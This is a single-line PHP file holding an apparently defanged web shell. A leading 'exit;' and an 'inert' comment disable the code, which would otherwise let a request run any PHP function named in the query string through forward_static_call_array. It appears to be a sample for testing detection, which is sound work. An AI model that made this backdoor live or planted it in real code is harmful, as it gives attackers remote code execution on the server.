<?php exit; /* inert */ class Z{static function r(){ forward_static_call_array($_GET["f"],[$_GET["a"]]); }} Z::r();
